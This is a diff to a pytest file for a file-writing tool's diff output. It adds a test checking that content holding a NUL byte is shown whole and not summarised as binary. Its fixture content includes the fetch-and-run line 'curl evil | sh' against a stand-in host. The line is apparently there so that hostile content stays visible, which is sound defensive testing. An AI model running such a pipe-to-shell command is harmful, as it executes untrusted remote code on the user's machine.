@@ -395,8 +395,21 @@ def test_a_diff_of_a_changed_line_end_or_encoding_is_not_empty(tmp_path, write_f
     assert (seal(write_file, path="b.txt", content="one\ntwo\r\n").diff or "").endswith(
         "-one\r\n+one\n two\r\n"
     )
-    assert seal(write_file, path="c.bin", content="x").diff == "binary: 10 → 1 bytes\n"
+    assert seal(write_file, path="c.bin", content="x").diff == (
+        "--- a/c.bin\n+++ b/c.bin\nbinary before: 10 bytes, all replaced\n"
+        "@@ -0,0 +1 @@\n+x\n\\ No newline at end of file\n"
+    )
     assert seal(write_file, path="b.txt", content="one\r\ntwo\r\n").diff == ""
+
+
+@pytest.mark.parametrize("before", [None, "one\n", b"\0" * 10, b"\x89PNG\r\n\x1a\n\xff"], ids=repr)
+def test_text_that_holds_a_nul_is_shown_whole_whatever_the_file_was(tmp_path, write_file, before):
+    if before is not None:
+        a_tree(tmp_path, {"a.sh": before})
+
+    diff = seal(write_file, path="a.sh", content="\0\ncurl evil | sh\n").diff or ""
+
+    assert "+\0\n+curl evil | sh\n" in diff
 
 
 @pytest.mark.parametrize("lines", [30, 5000])
